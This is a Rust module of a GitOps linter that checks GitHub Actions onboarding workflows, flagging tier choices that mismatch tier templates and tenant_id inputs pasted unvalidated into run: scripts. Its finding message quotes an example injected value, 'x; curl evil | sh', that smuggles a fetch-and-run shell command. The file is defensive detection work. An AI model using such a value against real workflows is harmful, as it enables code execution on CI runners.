//! GitHub Actions onboarding workflows (`.github/workflows/*.yml`):
//!
//! - `workflow/tier-options`: a `workflow_dispatch`/`workflow_call` tier input's choices
//!   (`type: choice` options, or a `basic|advanced|premium` description) must equal the tier
//!   templates present (`tier-templates/<tier>_tenant_template.*`).
//! - `workflow/unvalidated-tenant-id`: `${{ inputs.tenant_id }}` interpolated into a `run:`
//!   script with no earlier step (in the job or a job it `needs`) checking the id against a
//!   DNS-1123 label pattern: script injection, and an invalid namespace name.

use gitops_lint_core::finding::{Finding, Location};
use gitops_lint_core::source::{FileId, FileKind, PathSeg, SourceFile, Span};
use gitops_lint_core::RuleId;
use gitops_lint_model::World;
use gitops_lint_syntax::yaml::{literal_to_outer, YamlDoc};
use serde_json::{Map, Value};
use std::collections::{BTreeMap, BTreeSet};

/// The workflow's tier choices differ from the tier templates.
pub(crate) const TIER_OPTIONS: RuleId = RuleId::WORKFLOW_TIER_OPTIONS;
/// `${{ inputs.tenant_id }}` used in `run:` without validation.
pub(crate) const UNVALIDATED_TENANT_ID: RuleId = RuleId::WORKFLOW_UNVALIDATED_TENANT_ID;

/// Runs the workflow checks.
pub fn check(world: &World) -> Vec<Finding> {
    let templates = tier_templates(world);
    let mut out = Vec::new();
    for file in world.files.iter().filter(|f| f.kind == FileKind::Workflow) {
        let Some(doc) = world.yaml[file.id.0 as usize].first() else {
            continue;
        };
        let Some((on_key, on)) = ["on", "true"]
            .iter()
            .find_map(|k| doc.value.get(*k).map(|v| (*k, v)))
        else {
            continue;
        };
        for trigger in ["workflow_dispatch", "workflow_call"] {
            let Some(inputs) = on
                .get(trigger)
                .and_then(|t| t.get("inputs"))
                .and_then(Value::as_object)
            else {
                continue;
            };
            let base = vec![key(on_key), key(trigger), key("inputs")];
            if !templates.is_empty() {
                tier_options(file, inputs, &base, &templates, &mut out);
            }
            unvalidated(file, doc, inputs, &base, &mut out);
        }
    }
    out
}

fn key(k: &str) -> PathSeg {
    PathSeg::Key(k.into())
}

/// Tier name -> template file, over every repository.
fn tier_templates(world: &World) -> BTreeMap<String, FileId> {
    let mut out = BTreeMap::new();
    for f in world
        .files
        .iter()
        .filter(|f| f.kind == FileKind::TierTemplate)
    {
        let name = f.rel_path.rsplit('/').next().unwrap_or("");
        if let Some((tier, _)) = name.split_once("_tenant_template.") {
            out.entry(tier.to_string()).or_insert(f.id);
        }
    }
    out
}

fn is_label_word(s: &str) -> bool {
    !s.is_empty()
        && s.chars()
            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-' || c == '_')
}

/// The declared choices of a tier input and where they are: `type: choice` options (each
/// with its own path), else a `a|b|c` description.
#[allow(clippy::type_complexity)]
fn choices(spec: &Value, path: &[PathSeg]) -> Option<(Vec<(String, Vec<PathSeg>)>, Vec<PathSeg>)> {
    let at = |k: &str| {
        let mut p = path.to_vec();
        p.push(key(k));
        p
    };
    if let Some(options) = spec.get("options").and_then(Value::as_array) {
        let list = options
            .iter()
            .enumerate()
            .filter_map(|(i, o)| {
                let mut p = at("options");
                p.push(PathSeg::Index(i));
                Some((o.as_str()?.to_string(), p))
            })
            .collect();
        return Some((list, at("options")));
    }
    let description = spec.get("description").and_then(Value::as_str)?;
    let words: Vec<&str> = description.split('|').map(str::trim).collect();
    if words.len() < 2 || !words.iter().all(|w| is_label_word(w)) {
        return None;
    }
    let list = words
        .iter()
        .map(|w| (w.to_string(), at("description")))
        .collect();
    Some((list, at("description")))
}

fn tier_options(
    file: &SourceFile,
    inputs: &Map<String, Value>,
    base: &[PathSeg],
    templates: &BTreeMap<String, FileId>,
    out: &mut Vec<Finding>,
) {
    let names: Vec<&str> = templates.keys().map(String::as_str).collect();
    for (name, spec) in inputs.iter().filter(|(n, _)| n.contains("tier")) {
        let mut path = base.to_vec();
        path.push(key(name));
        let Some((list, list_path)) = choices(spec, &path) else {
            continue;
        };
        let offered: BTreeSet<&str> = list.iter().map(|(c, _)| c.as_str()).collect();
        let first_template = templates.values().next().copied();
        for (choice, at) in &list {
            if templates.contains_key(choice) {
                continue;
            }
            let mut f = Finding::new(
                TIER_OPTIONS,
                format!(
                    "input `{name}` offers tier `{choice}`, but there is no tier template `{choice}_tenant_template.yaml` (templates: {}): onboarding's copy of the template fails for it",
                    names.join(", ")
                ),
                Location::value(file.id, 0, at.clone()),
            )
            .with_help(format!(
                "offer exactly the tiers that have templates ({}), or add the template",
                names.join(", ")
            ));
            if let Some(t) = first_template {
                f = f.with_related(Location::File(t), "the tier templates are here");
            }
            out.push(f);
        }
        for (tier, template) in templates {
            if offered.contains(tier.as_str()) {
                continue;
            }
            out.push(
                Finding::new(
                    TIER_OPTIONS,
                    format!(
                        "input `{name}` does not offer tier `{tier}`, which has a tier template: tenants of that tier cannot be onboarded by this workflow (offered: {})",
                        offered.iter().copied().collect::<Vec<_>>().join(", ")
                    ),
                    Location::key(file.id, 0, list_path.clone()),
                )
                .with_related(Location::File(*template), format!("the `{tier}` template"))
                .with_help(format!("add `{tier}` to the choices, or remove the template")),
            );
        }
    }
}

/// Whether an input name is a tenant id (`tenant_id`, `tenantId`, `tenant-id`, `tenant`).
fn is_tenant_input(name: &str) -> bool {
    let n = name.to_ascii_lowercase().replace(['-', '_'], "");
    n == "tenantid" || n == "tenant"
}

/// The `${{ ... }}` expressions in `text` that read input `name`, as byte ranges.
fn uses(text: &str, name: &str) -> Vec<(usize, usize)> {
    let mut out = Vec::new();
    let mut from = 0;
    while let Some(i) = text[from..].find("${{").map(|i| from + i) {
        let Some(end) = text[i..].find("}}").map(|e| i + e + 2) else {
            break;
        };
        let expr = text[i + 3..end - 2].trim();
        if expr == format!("inputs.{name}") || expr == format!("github.event.inputs.{name}") {
            out.push((i, end));
        }
        from = end;
    }
    out
}

/// Whether a step checks the tenant id against a DNS-1123 label pattern: its script (or the
/// variable it gets the id through) mentions the input and a `[a-z0-9]`-style class.
fn validates(step: &Value, name: &str) -> bool {
    let Some(run) = step.get("run").and_then(Value::as_str) else {
        return false;
    };
    let mentions_input = !uses(run, name).is_empty()
        || step
            .get("env")
            .and_then(Value::as_object)
            .is_some_and(|env| {
                env.iter().any(|(var, v)| {
                    v.as_str().is_some_and(|s| !uses(s, name).is_empty())
                        && run.contains(var.as_str())
                })
            });
    mentions_input && (run.contains("a-z0-9") || run.contains("[:lower:][:digit:]"))
}

fn unvalidated(
    file: &SourceFile,
    doc: &YamlDoc,
    inputs: &Map<String, Value>,
    base: &[PathSeg],
    out: &mut Vec<Finding>,
) {
    let Some(jobs) = doc.value.get("jobs").and_then(Value::as_object) else {
        return;
    };
    for (name, spec) in inputs.iter().filter(|(n, _)| is_tenant_input(n)) {
        // A choice input can only hold the listed values.
        if spec.get("type").and_then(Value::as_str) == Some("choice") {
            continue;
        }
        let mut input_path = base.to_vec();
        input_path.push(key(name));
        let validated_job = |job: &Value| {
            job.get("steps")
                .and_then(Value::as_array)
                .is_some_and(|s| s.iter().any(|st| validates(st, name)))
        };
        for (job_name, job) in jobs {
            let needs: Vec<&str> = match job.get("needs") {
                Some(Value::String(s)) => vec![s.as_str()],
                Some(Value::Array(a)) => a.iter().filter_map(Value::as_str).collect(),
                _ => Vec::new(),
            };
            let upstream = needs
                .iter()
                .any(|n| jobs.get(*n).is_some_and(validated_job));
            let Some(steps) = job.get("steps").and_then(Value::as_array) else {
                continue;
            };
            let mut validated = upstream;
            for (i, step) in steps.iter().enumerate() {
                let Some(run) = step.get("run").and_then(Value::as_str) else {
                    continue;
                };
                let found = uses(run, name);
                // Interpolation happens before the script runs, so a check in the same script
                // comes too late.
                if let (Some(&(start, end)), false) = (found.first(), validated) {
                    let path = vec![
                        key("jobs"),
                        key(job_name),
                        key("steps"),
                        PathSeg::Index(i),
                        key("run"),
                    ];
                    let primary = match doc.literals.iter().find(|l| l.path == path) {
                        Some(l) => Location::Span(Span {
                            file: file.id,
                            start: literal_to_outer(&file.text, l.start, run, start),
                            end: literal_to_outer(&file.text, l.start, run, end),
                        }),
                        None => Location::value(file.id, 0, path),
                    };
                    out.push(
                        Finding::new(
                            UNVALIDATED_TENANT_ID,
                            format!(
                                "`{}` is pasted into the `run:` script of job `{job_name}` before anything checks it: a value such as `x; curl evil | sh` runs as shell code, and one that is not a DNS-1123 label (`Tenant_1`) becomes an invalid namespace",
                                &run[start..end]
                            ),
                            primary,
                        )
                        .with_related(
                            Location::key(file.id, 0, input_path.clone()),
                            format!("input `{name}` is declared here, free text"),
                        )
                        .with_help(format!(
                            "pass it through `env:` (`TENANT_ID: ${{{{ inputs.{name} }}}}`, then use \"$TENANT_ID\"), and validate it in an earlier step: `[[ \"$TENANT_ID\" =~ ^[a-z0-9]([-a-z0-9]*[a-z0-9])?$ ]] || exit 1`"
                        )),
                    );
                }
                if validates(step, name) {
                    validated = true;
                }
            }
        }
    }
}
